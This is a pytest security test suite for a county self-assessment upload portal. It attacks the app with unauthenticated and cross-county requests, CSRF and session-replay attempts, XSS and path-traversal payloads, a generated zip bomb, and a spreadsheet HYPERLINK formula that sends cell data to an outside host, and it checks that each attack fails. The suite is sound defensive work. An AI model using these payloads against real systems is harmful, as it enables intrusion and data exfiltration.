"""A hostile campaign against the portal (issue 23, item 4), every attempt through the ASGI client
and each a test that the attack fails — its status, and nothing changed or leaked: every route tried
without a session, with the wrong kind of session and without its CSRF token (enumerated from
`app.routes`, so a route added later without a check fails here); a county reaching another
county's uploads, rounds and drafts by ids, form fields, another season's link, a replayed cookie;
session fixation and replay after log-out; county text as markup in every page and download; hostile
file names, disguised and exploding files, bodies past the limit with and without Content-Length;
the log-in guessed at (no account enumeration; failures throttled per user name and per client address)."""

from __future__ import annotations

import io
import json
import re
import zipfile

import pytest
from starlette.routing import Mount, Route
from starlette.testclient import TestClient

from checker.web import security
from test_web import (PASSWORD, _audit, _qujing_yaml, app, county_client, csrf_of, make_links,  # noqa: F401
                      make_season, office_client, store_url, upload)

SECRET_WORDS = ("曲靖", "530300")  # what a stranger must never see of 曲靖市


def _rows(app) -> dict[str, int]:
    """How many rows each portal table holds (the audit apart): a request that changes nothing leaves these."""
    from sqlalchemy import func, select

    with app.state.portal.engine.connect() as conn:
        return {name: conn.execute(select(func.count()).select_from(t)).scalar_one()
                for name, t in app.state.portal.t.items() if name not in ("audit", "settings")}


def _state(app) -> tuple:
    """Everything a request could change, as comparable values."""
    from sqlalchemy import select

    p = app.state.portal
    with p.engine.connect() as conn:
        return tuple(sorted(map(repr, conn.execute(select(t)))) for name, t in sorted(p.t.items())
                     if name not in ("audit", "settings"))


@pytest.fixture
def season(app):
    """A season with links, one upload by 曲靖市, a frozen round and a waiver: every id a route takes exists."""
    office = office_client(app)
    sid = make_season(office)
    links = make_links(office, sid)
    qujing = county_client(app, links["530300"])
    assert upload(qujing, "qujing.yaml", _qujing_yaml()).status_code == 303
    page = office.get(f"/office/seasons/{sid}").text
    assert office.post(f"/office/seasons/{sid}/freeze", data={"csrf": csrf_of(page)},
                       follow_redirects=False).status_code == 303
    p = app.state.portal
    ids = {"sid": sid, "code": "530300", "uid": p.uploads(sid, "530300")[0].id, "rid": p.frozen(sid)[0].id,
           "lid": next(lk.id for lk in p.links(sid) if lk.code == "530300"), "kind": "report.json",
           "token": security.new_token()}
    return {"office": office, "links": links, "qujing": qujing, "ids": ids, "sid": sid}


def _with_cookie(app, value: str) -> TestClient:
    """A client holding a copied session cookie (as the server's own cookie, so later answers replace it)."""
    client = TestClient(app)
    client.get("/office/login")
    cookie = next(c for c in client.cookies.jar if c.name == "checker_session")
    cookie.value = value
    return client


def _routes(app):
    for r in app.routes:
        if isinstance(r, Mount):
            assert r.path == "/static", f"a mounted app nobody reviewed: {r.path}"
            continue
        assert isinstance(r, Route), r
        for method in sorted(r.methods - {"HEAD"}):
            yield method, r


def _url(route: Route, ids: dict) -> str:
    return re.sub(r"\{(\w+)(?::\w+)?\}", lambda m: str(ids[m.group(1)]), route.path)


# routes a stranger may open: the way in, and where it leads
PUBLIC = {("GET", "/"), ("GET", "/office/login"), ("POST", "/office/login")}


def _refused(r, path: str) -> None:
    assert r.status_code in (303, 400, 403, 404, 405), (path, r.status_code)
    if r.status_code == 303:
        assert r.headers["location"] == "/office/login", path
    for word in SECRET_WORDS:
        assert word not in r.text, (path, word)


def test_every_route_refuses_a_stranger(app, season):
    """Each route of the app, each method, without a session: a log-in redirect, 403 or 404, never data."""
    before = _state(app)
    seen = set()
    for method, route in _routes(app):
        seen.add(route.path)
        if (method, route.path) in PUBLIC:
            continue
        path = _url(route, season["ids"])
        r = TestClient(app).request(method, path, follow_redirects=False)
        _refused(r, f"{method} {path}")
    assert {"/county/upload", "/office/seasons/{sid:id}/freeze", "/county/report/decide"} <= seen
    assert _state(app) == before


def test_a_county_reaches_no_office_route_and_the_office_no_county_route(app, season):
    qujing, office = season["qujing"], season["office"]
    before = _state(app)
    for method, route in _routes(app):
        path = _url(route, season["ids"])
        if route.path.endswith("/logout"):  # anyone may end their own session
            continue
        if route.path.startswith("/office/") and route.path != "/office/login" or route.path == "/office":
            home = qujing.get("/county").text
            r = qujing.request(method, path, data={"csrf": csrf_of(home)} if method == "POST" else None,
                               follow_redirects=False)
            assert (r.status_code, r.headers.get("location")) == (303, "/office/login"), (method, path)
        elif route.path.startswith("/county"):
            home = office.get("/office").text
            r = office.request(method, path, data={"csrf": csrf_of(home)} if method == "POST" else None,
                               follow_redirects=False)
            assert r.status_code == 403, (method, path)
    assert _state(app) == before


def test_every_post_route_needs_this_sessions_csrf_token(app, season):
    office, qujing = season["office"], season["qujing"]
    other_office, other_county = office_client(app), TestClient(app)
    foreign = {"office": csrf_of(other_office.get("/office").text),
               "county": csrf_of(other_county.get("/office/login").text)}
    before = _state(app)
    for method, route in _routes(app):
        if method != "POST" or route.path == "/office/login":
            continue
        client, whose = (qujing, "county") if route.path.startswith("/county") else (office, "office")
        path = _url(route, season["ids"])
        for data in ({}, {"csrf": ""}, {"csrf": "x" * 43}, {"csrf": foreign[whose]}):
            fields = {**data, "code": "530322", "draft": "1", "action": "confirm_all", "name": "x", "period": "2021",
                      "deadline": "2099-12-31", "criterion": "X", "reason": "x", "approver": "x",
                      "expires": "2099-01-01"}
            r = client.post(path, data=fields, follow_redirects=False)
            assert r.status_code == 403, (path, data)
    assert _state(app) == before
    # the log-in form too: a log-in CSRF would put a victim into the attacker's account
    r = TestClient(app).post("/office/login", data={"username": "inspector", "password": PASSWORD,
                                                    "csrf": foreign["office"]}, follow_redirects=False)
    assert r.status_code == 403


def test_get_routes_change_nothing(app, season):
    """A GET never changes state (an <img src> on another site cannot act for the office or a county)."""
    office, qujing = season["office"], season["qujing"]
    before, audit = _state(app), len(_audit(app))
    for method, route in _routes(app):
        if method != "GET" or route.path == "/c/{token}":  # a link opens a session: its own cookie, no row
            continue
        client = qujing if route.path.startswith("/county") else office
        client.get(_url(route, season["ids"]), follow_redirects=False)
    assert _state(app) == before and len(_audit(app)) == audit


# -- one county against another ---------------------------------------------------------------------

def _second_season(office: TestClient) -> tuple[int, dict[str, str]]:
    """Another season with the same roster (曲靖市 is 530300 in both)."""
    page = office.get("/office")
    from test_web import ROSTER

    r = office.post("/office/seasons", data={"csrf": csrf_of(page.text), "name": "2022 履职自评", "period": "2022",
                                             "deadline": "2099-12-31"},
                    files={"roster": ("roster.csv", ROSTER.encode("utf-8"), "text/csv")}, follow_redirects=False)
    sid = int(r.headers["location"].rsplit("/", 1)[1])
    return sid, make_links(office, sid)


def test_a_county_sees_nothing_of_another_county_or_of_its_own_other_season(app, season):
    sid, ids = season["sid"], season["ids"]
    luliang = county_client(app, season["links"]["530322"])
    # the same code in another season: its link opens that season only
    sid2, links2 = _second_season(season["office"])
    qujing_2022 = county_client(app, links2["530300"])
    for client in (luliang, qujing_2022):
        for path in (f"/county/uploads/{ids['uid']}/report.html", f"/county/rounds/{ids['rid']}/report.html",
                     f"/county/uploads/{ids['uid'] + 1}/report.html", f"/county/rounds/{ids['rid'] + 1}/report.html",
                     f"/county/uploads/0/report.html", "/county/uploads/-1/report.html", "/county/report"):
            r = client.get(path, follow_redirects=False)
            assert r.status_code in (200, 404), path
            assert "曲靖市 (530300)" not in r.text and "qujing.yaml" not in r.text, path
        assert "qujing.yaml" not in client.get("/county").text
    # the filled form carries the link's own code, whatever the request says
    form = luliang.get("/county/form.xlsx?code=530300&entity=530300")
    from openpyxl import load_workbook

    entity = {r[0].value: r[3].value for r in load_workbook(io.BytesIO(form.content))["单位"].iter_rows()}
    assert entity["entity_code"] == "530322"
    # an office waiver for 曲靖 is not shown to 陆良
    office = season["office"]
    page = office.get(f"/office/seasons/{sid}").text
    r = office.post(f"/office/seasons/{sid}/waivers", data={"csrf": csrf_of(page), "code": "530300",
                                                            "criterion": "DUT-FUND-02", "reason": "曲靖的豁免理由",
                                                            "approver": "省厅", "expires": "2099-01-01"},
                    follow_redirects=False)
    assert r.status_code == 303
    assert "曲靖的豁免理由" not in luliang.get("/county").text
    assert app.state.portal.uploads(sid2, "530300") == []


def test_a_replayed_county_cookie_dies_with_its_link(app, season):
    """曲靖's session cookie, copied, after its link is re-issued (the old one revoked) or revoked."""
    office, sid = season["office"], season["sid"]
    cookie = season["qujing"].cookies.get("checker_session")
    page = office.get(f"/office/seasons/{sid}").text
    r = office.post(f"/office/seasons/{sid}/links", data={"csrf": csrf_of(page), "code": "530300", "format": "html"})
    assert r.status_code == 200
    thief = _with_cookie(app, cookie)
    assert thief.get("/county").status_code == 403
    assert thief.get(f"/county/uploads/{season['ids']['uid']}/report.html").status_code == 403
    assert TestClient(app).get(season["links"]["530300"], follow_redirects=False).status_code == 403
    # the new link works, and stops working when revoked
    new = re.search(r"http://testserver(/c/[^<]+)</code>", r.text).group(1)
    fresh = county_client(app, new)
    assert fresh.get("/county").status_code == 200
    lid = next(lk.id for lk in app.state.portal.links(sid) if lk.code == "530300" and lk.revoked_at is None)
    office.post(f"/office/seasons/{sid}/links/{lid}/revoke", data={"csrf": csrf_of(office.get("/office").text)})
    assert fresh.get("/county").status_code == 403 and TestClient(app).get(new).status_code == 403


def test_a_county_cannot_revoke_or_issue_links_by_editing_ids(app, season):
    """The office's revoke takes (season, link): a link id of another season changes nothing."""
    office, sid = season["office"], season["sid"]
    sid2, links2 = _second_season(office)
    lid2 = next(lk.id for lk in app.state.portal.links(sid2) if lk.code == "530300")
    office.post(f"/office/seasons/{sid}/links/{lid2}/revoke", data={"csrf": csrf_of(office.get("/office").text)})
    assert all(lk.revoked_at is None for lk in app.state.portal.links(sid2))
    # links asked for a code off the roster are not made
    before = len(app.state.portal.links(sid))
    page = office.get(f"/office/seasons/{sid}").text
    office.post(f"/office/seasons/{sid}/links", data={"csrf": csrf_of(page), "code": ["999999", "../x"]})
    assert len(app.state.portal.links(sid)) == before


# -- sessions ------------------------------------------------------------------------------------

def test_a_session_cookie_set_before_log_in_does_not_survive_it(app, season):
    """Session fixation: the cookie an attacker planted (its own pre-log-in session) is not the office's after."""
    attacker = TestClient(app)
    attacker.get("/office/login")
    planted = attacker.cookies.get("checker_session")
    victim = _with_cookie(app, planted)
    page = victim.get("/office/login").text
    r = victim.post("/office/login", data={"username": "inspector", "password": PASSWORD, "csrf": csrf_of(page)},
                    follow_redirects=False)
    assert r.status_code == 303 and victim.cookies.get("checker_session") != planted
    assert victim.get("/office").status_code == 200
    replay = _with_cookie(app, planted)
    assert replay.get("/office", follow_redirects=False).headers["location"] == "/office/login"
    # a county session is not carried into the office's, nor the office's into a county's
    qujing = season["qujing"]
    page = qujing.get("/office/login").text
    qujing.post("/office/login", data={"username": "inspector", "password": PASSWORD, "csrf": csrf_of(page)})
    assert qujing.get("/county").status_code == 403
    county_client(app, season["links"]["530300"])
    office = season["office"]
    office.get(season["links"]["530322"])
    assert office.get("/office", follow_redirects=False).headers["location"] == "/office/login"



def test_an_office_cookie_replayed_after_log_out_is_no_session(app, season):
    """Sessions are signed cookies: a copy taken before log-out must not open the office after it."""
    office = season["office"]
    copied = office.cookies.get("checker_session")
    r = office.post("/office/logout", data={"csrf": csrf_of(office.get("/office").text)}, follow_redirects=False)
    assert r.headers["location"] == "/office/login"
    replay = _with_cookie(app, copied)
    assert replay.get("/office", follow_redirects=False).headers.get("location") == "/office/login"
    assert replay.get(f"/office/seasons/{season['sid']}/rounds/{season['ids']['rid']}/report.json",
                      follow_redirects=False).status_code == 303
    # logging in again gives a working session
    assert office_client(app).get("/office").status_code == 200


def test_a_county_cookie_replayed_after_its_log_out_is_no_session(app, season):
    """曲靖 logs out: a copy of its session cookie taken before opens nothing after; its link opens a new one."""
    qujing = season["qujing"]
    copied = qujing.cookies.get("checker_session")
    r = qujing.post("/county/logout", data={"csrf": csrf_of(qujing.get("/county").text)})
    assert r.status_code == 200 and qujing.get("/county").status_code == 403
    replay = _with_cookie(app, copied)
    assert replay.get("/county").status_code == 403
    assert replay.get(f"/county/uploads/{season['ids']['uid']}/report.html").status_code == 403
    assert replay.get("/county/form.xlsx").status_code == 403
    # the link still works, and another county's session was not ended by 曲靖's log-out
    assert county_client(app, season["links"]["530300"]).get("/county").status_code == 200
    luliang = county_client(app, season["links"]["530322"])
    qujing = county_client(app, season["links"]["530300"])
    qujing.post("/county/logout", data={"csrf": csrf_of(qujing.get("/county").text)})
    assert luliang.get("/county").status_code == 200


# -- county text as markup -----------------------------------------------------------------------

MARK = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def _hostile_yaml() -> bytes:
    """曲靖's submission with markup in its entity name and in a quote from its report."""
    text = _qujing_yaml().decode("utf-8").replace("name: 曲靖市", f"name: '曲靖市{MARK}'", 1)
    text = text.replace('quote: "2021年', f'quote: "{MARK.replace(chr(34), chr(39))}2021年', 1)
    assert MARK in text
    return text.encode("utf-8")


def _no_markup(body: str, where: str) -> None:
    for raw in ("<script>alert(", "<img src=x"):  # in a report's JSON data "<" is \u003c: no tag opens
        assert raw not in body, (where, raw)


def test_county_text_is_escaped_in_every_page_and_download(app):
    office = office_client(app)
    sid = make_season(office)
    links = make_links(office, sid)
    qujing = county_client(app, links["530300"])
    assert upload(qujing, f"{MARK}.yaml", _hostile_yaml()).status_code == 303
    uid = app.state.portal.uploads(sid, "530300")[0].id
    page = office.get(f"/office/seasons/{sid}").text
    office.post(f"/office/seasons/{sid}/waivers", data={"csrf": csrf_of(page), "code": "530300",
                                                        "criterion": "DUT-FUND-02", "reason": MARK, "approver": MARK,
                                                        "expires": "2099-01-01"})
    page = office.get(f"/office/seasons/{sid}").text
    office.post(f"/office/seasons/{sid}/freeze", data={"csrf": csrf_of(page)})
    rid = app.state.portal.frozen(sid)[0].id
    upload(qujing, "again.yaml", _hostile_yaml())  # the second round, for the diff
    office.post(f"/office/seasons/{sid}/freeze", data={"csrf": csrf_of(office.get(f"/office/seasons/{sid}").text)})
    seen = []
    for client, path in ((qujing, "/county"), (qujing, f"/county/uploads/{uid}/report.html"),
                         (qujing, f"/county/rounds/{rid}/report.html"), (office, f"/office/seasons/{sid}"),
                         (office, f"/office/seasons/{sid}/entities/530300"),
                         (office, f"/office/seasons/{sid}/entities/530300/uploads/{uid}/report.html"),
                         (office, f"/office/seasons/{sid}/rounds/{rid}/report.html"),
                         (office, f"/office/seasons/{sid}/diff")):
        r = client.get(path)
        assert r.status_code == 200, path
        _no_markup(r.text, path)
        seen.append(r.text)
    assert any("&lt;script&gt;alert(" in s for s in seen)  # shown, as text
    assert sum("&lt;img src=x onerror=alert(1)&gt;" in s for s in seen) >= 2  # the waiver's reason, the quote
    archive = zipfile.ZipFile(io.BytesIO(office.get(f"/office/seasons/{sid}/rounds/{rid}/counties.zip").content))
    for name in archive.namelist():
        assert "/" not in name and ".." not in name and "<" not in name, name
        _no_markup(archive.read(name).decode("utf-8"), name)
    # the record keeps the county's text as data, exactly
    record = json.loads(office.get(f"/office/seasons/{sid}/rounds/{rid}/report.json").content)
    assert MARK in json.dumps(record, ensure_ascii=False).replace('\\"', '"')


def test_every_page_carries_a_strict_policy_and_the_cookie_its_flags(app, season):
    office = season["office"]
    ids = season["ids"]
    for client, path in ((office, "/office"), (office, f"/office/seasons/{ids['sid']}"),
                         (office, f"/office/seasons/{ids['sid']}/rounds/{ids['rid']}/report.html"),
                         (season["qujing"], "/county"), (TestClient(app), "/office/login"),
                         (TestClient(app), "/county")):
        r = client.get(path)
        policy = r.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy, path
        assert "unsafe-eval" not in policy and re.search(r"script-src ('none'|'sha256-[^']+')( |;)", policy), path
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["cache-control"] == "no-store"
    raw = TestClient(app).get("/office/login").headers["set-cookie"].lower()
    assert "httponly" in raw and "samesite=lax" in raw and "path=/" in raw


# -- hostile files -------------------------------------------------------------------------------

def test_hostile_file_names_are_plain_names(app, season):
    qujing, sid = season["qujing"], season["sid"]
    for name in ("../../x.yaml", "/etc/passwd.yaml", "..\\..\\win.yaml", "C:\\x\\y.yaml", "a\x00b.yaml",
                 "é" * 1500 + ".yaml", "con.yaml"):
        r = upload(qujing, name, _qujing_yaml())
        assert r.status_code == 303, (name, r.text[-300:])
        stored = app.state.portal.uploads(sid, "530300")[0].filename
        assert stored.endswith(".yaml") and not re.search(r"[/\\\x00:]", stored) and len(stored) <= 90, stored
        assert not stored.startswith("."), stored
    # a name past the form parser's header limit (4 KiB a line): the request refused, nothing stored
    count = len(app.state.portal.uploads(sid, "530300"))
    r = upload(qujing, "é" * 5000 + ".yaml", _qujing_yaml())
    assert r.status_code == 400 and len(app.state.portal.uploads(sid, "530300")) == count


def test_disguised_and_exploding_files_get_a_clear_refusal(app, season):
    qujing, sid = season["qujing"], season["sid"]
    before = len(app.state.portal.uploads(sid, "530300"))
    # a zip bomb dressed as a workbook: 300 MiB of zeros in 300 KiB, refused from the zip's directory
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(300):
                member.write(chunk)
    for name, body, said in (("bomb.xlsx", bomb.getvalue(), "压缩炸弹"), ("text.xlsx", _qujing_yaml(), "工作簿已损坏"),
                             ("binary.yaml", bytes(range(256)) * 10, "不是 UTF-8"),
                             ("zip.csv", bomb.getvalue()[:4096], "GB18030"), ("empty.xlsx", b"", "工作簿已损坏")):
        r = upload(qujing, name, body, follow=True)
        # kept with its error (the audit of what was sent), the error on the county's page in its words
        assert r.status_code == 200 and said in r.text and "Traceback" not in r.text, name
    assert len(app.state.portal.uploads(sid, "530300")) == before + 5


def test_bodies_past_the_limit_are_refused_with_or_without_content_length(app, season, monkeypatch):
    qujing, sid = season["qujing"], season["sid"]
    monkeypatch.setattr(security, "UPLOAD_MAX", 1 << 20)
    monkeypatch.setitem(security.UPLOAD_SUFFIXES, ".yaml", 1 << 20)
    before = len(app.state.portal.uploads(sid, "530300"))
    csrf = csrf_of(qujing.get("/county").text)
    boundary = "xYzZY"
    head = (f'--{boundary}\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{csrf}\r\n'
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.yaml"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n").encode()
    tail = f"\r\n--{boundary}--\r\n".encode()
    sent = {"n": 0}  # MiB sent, both times together

    def chunks():  # 64 MiB, streamed: no Content-Length
        yield head
        for _ in range(64):
            sent["n"] += 1
            yield b"#" * (1 << 20)
        yield tail

    headers = {"content-type": f"multipart/form-data; boundary={boundary}"}
    r = qujing.post("/county/upload", content=chunks(), headers=headers, follow_redirects=False)
    assert r.status_code == 413 and "大小限制" in r.text
    # straight to the app (the test client reads a body whole before it calls the app): it stops reading
    assert _asgi_post(app, "/county/upload", qujing.cookies.get("checker_session"), headers, chunks()) == 413
    assert sent["n"] < 64 + 4  # the second time through, at most a few MiB of 64 were read
    body = head + b"#" * (3 << 20) + tail
    r = qujing.post("/county/upload", content=body, headers=headers, follow_redirects=False)
    assert r.status_code == 413
    assert len(app.state.portal.uploads(sid, "530300")) == before


def _asgi_post(app, path: str, cookie: str, headers: dict, chunks) -> int:
    """POST `chunks` to the app as an ASGI server would, chunk by chunk with no Content-Length: the status."""
    import anyio

    it = iter(chunks)
    sent = []

    async def receive():
        chunk = next(it, None)
        return {"type": "http.request", "body": chunk or b"", "more_body": chunk is not None}

    async def send(message):
        if message["type"] == "http.response.start":
            sent.append(message["status"])

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": path, "raw_path": path.encode(), "root_path": "", "query_string": b"",
             "server": ("testserver", 80), "client": ("127.0.0.1", 1), "app": app,
             "headers": [(k.encode(), v.encode()) for k, v in headers.items()]
             + [(b"cookie", f"checker_session={cookie}".encode()), (b"host", b"testserver")]}
    anyio.run(app, scope, receive, send)
    return sent[0]


# -- the log-in ----------------------------------------------------------------------------------

def _try_login(app, username: str, password: str, address: str = "testclient"):
    client = TestClient(app, client=(address, 50000))
    page = client.get("/office/login").text
    return client, client.post("/office/login", data={"username": username, "password": password,
                                                      "csrf": csrf_of(page)}, follow_redirects=False)


def _without_token(html: str) -> str:
    return re.sub(r'name="csrf" value="[^"]+"', "", html)


def test_the_log_in_tells_no_one_which_accounts_exist(app):
    _, wrong = _try_login(app, "inspector", "wrong password")
    _, nobody = _try_login(app, "nobody", "wrong password")
    assert (wrong.status_code, nobody.status_code) == (401, 401)
    assert _without_token(wrong.text) == _without_token(nobody.text)
    assert sorted(wrong.headers.keys()) == sorted(nobody.headers.keys())
    # a very long password is a wrong password; one past the form's field limit a refused request
    client, r = _try_login(app, "inspector", PASSWORD + "x" * 60000)
    assert r.status_code == 401 and client.get("/office", follow_redirects=False).status_code == 303
    client, r = _try_login(app, "inspector", "x" * (1 << 20))
    assert r.status_code in (400, 413) and client.get("/office", follow_redirects=False).status_code == 303



def test_repeated_failed_log_ins_are_throttled_per_user_name(app, monkeypatch):
    for _ in range(security.LOGIN_MAX):
        assert _try_login(app, "inspector", "guess")[1].status_code == 401
    # then even the right password is refused for a while, with the same words for a name that does not exist
    client, r = _try_login(app, "inspector", PASSWORD)
    assert r.status_code == 429 and client.get("/office", follow_redirects=False).status_code == 303
    for _ in range(security.LOGIN_MAX):
        _try_login(app, "nobody", "guess")
    _, unknown = _try_login(app, "nobody", PASSWORD)
    assert unknown.status_code == 429 and _without_token(unknown.text) == _without_token(r.text)
    assert "分钟后再试" in r.text
    # another account is not locked out by them
    app.state.portal.add_account("second", security.hash_password(PASSWORD), "市督导室", "2026-12-01T00:00:00Z")
    assert _try_login(app, "second", PASSWORD)[1].status_code == 303
    # after the window the right password works again
    later = security.now_utc() + security.LOGIN_WINDOW
    monkeypatch.setattr(security, "now_utc", lambda: later)
    assert _try_login(app, "inspector", PASSWORD)[1].status_code == 303


def test_failed_log_ins_from_one_address_are_throttled_across_user_names(app, monkeypatch):
    """Guessing over many names from one address: each name stays under its own limit, the address does not."""
    names = [f"guess{i}" for i in range(security.LOGIN_MAX_CLIENT)]  # each tried once: far under its own limit
    for name in names:
        assert _try_login(app, name, "guess", address="203.0.113.7")[1].status_code == 401
    client, r = _try_login(app, "inspector", PASSWORD, address="203.0.113.7")
    assert r.status_code == 429 and client.get("/office", follow_redirects=False).status_code == 303
    # the same account from another address logs in; and the address again once the window has passed
    assert _try_login(app, "inspector", PASSWORD, address="198.51.100.2")[1].status_code == 303
    later = security.now_utc() + security.LOGIN_WINDOW
    monkeypatch.setattr(security, "now_utc", lambda: later)
    assert _try_login(app, "inspector", PASSWORD, address="203.0.113.7")[1].status_code == 303


# -- ids out of range, oversized refusals counted ------------------------------------------------------

@pytest.mark.parametrize("number", ["0", "2147483648", "9223372036854775808", "1" + "0" * 40])
def test_ids_past_any_column_are_not_found_not_errors(app, season, number):
    """An id no integer column can hold (PostgreSQL's integer stops at 2^31 - 1, SQLite's at 2^63 - 1)."""
    office, qujing, sid = season["office"], season["qujing"], season["sid"]
    for client, path in ((qujing, f"/county/uploads/{number}/report.html"),
                         (qujing, f"/county/rounds/{number}/report.html"),
                         (office, f"/office/seasons/{number}"), (office, f"/office/seasons/{number}/diff"),
                         (office, f"/office/seasons/{sid}/rounds/{number}/report.json"),
                         (office, f"/office/seasons/{sid}/entities/530300/uploads/{number}/report.html")):
        r = client.get(path, follow_redirects=False)
        assert r.status_code == 404, (path, r.status_code)
    page = office.get(f"/office/seasons/{sid}").text
    r = office.post(f"/office/seasons/{sid}/links/{number}/revoke", data={"csrf": csrf_of(page)},
                    follow_redirects=False)
    assert r.status_code in (303, 404)
    page = qujing.get("/county/report").text
    r = qujing.post("/county/report/decide", data={"csrf": csrf_of(page), "draft": number, "action": "confirm",
                                                   "fig": [number]}, follow_redirects=False)
    assert r.status_code == 404


def test_oversized_uploads_count_against_the_rate_limit(app, season, monkeypatch):
    qujing, sid = season["qujing"], season["sid"]
    monkeypatch.setattr(security, "RATE_MAX", security.RATE_MAX)
    used = app.state.portal.uploads_since(season["ids"]["lid"], security.stamp(security.now_utc() -
                                                                               security.RATE_WINDOW))
    monkeypatch.setattr(security, "RATE_MAX", used + 2)
    monkeypatch.setattr(security, "UPLOAD_MAX", 1 << 16)
    statuses = [upload(qujing, "big.yaml", b"#" * (1 << 18)).status_code for _ in range(3)]
    assert statuses == [413, 413, 429]


def test_county_text_is_never_a_formula_in_the_workbooks(app):
    """A county's entity name or quote starting with '=' stays text in the round's workbook (no formula runs
    when the office opens it)."""
    from openpyxl import load_workbook

    office = office_client(app)
    sid = make_season(office)
    qujing = county_client(app, make_links(office, sid)["530300"])
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    text = _qujing_yaml().decode("utf-8").replace("name: 曲靖市", f"name: '{evil}'", 1)
    text = text.replace('quote: "2021年', 'quote: "=1+1 2021年', 1)
    assert upload(qujing, "q.yaml", text.encode("utf-8")).status_code == 303
    office.post(f"/office/seasons/{sid}/freeze", data={"csrf": csrf_of(office.get(f"/office/seasons/{sid}").text)})
    rid = app.state.portal.frozen(sid)[0].id
    book = load_workbook(io.BytesIO(office.get(f"/office/seasons/{sid}/rounds/{rid}/report.xlsx").content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == evil for c in cells)  # the name is there, as text
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_static_files_give_nothing_but_themselves(app):
    client = TestClient(app)
    assert client.get("/static/site.css").status_code == 200
    for path in ("/static/../app.py", "/static/%2e%2e/app.py", "/static/..%2fapp.py", "/static/%2e%2e%2fportal.py",
                 "/static//etc/passwd", "/static/templates/login.html"):
        r = client.get(path)
        assert r.status_code == 404 and "def create_app" not in r.text and "root:" not in r.text, path


def test_a_form_with_two_files_or_a_text_for_a_file_is_refused(app, season):
    qujing, sid = season["qujing"], season["sid"]
    before = len(app.state.portal.uploads(sid, "530300"))
    csrf = csrf_of(qujing.get("/county").text)
    r = qujing.post("/county/upload", data={"csrf": csrf}, files=[("file", ("a.yaml", _qujing_yaml())),
                                                                   ("file", ("b.yaml", _qujing_yaml()))])
    assert r.status_code == 400
    r = qujing.post("/county/upload", data={"csrf": csrf, "file": "qujing.yaml"})
    assert r.status_code == 400
    assert len(app.state.portal.uploads(sid, "530300")) == before
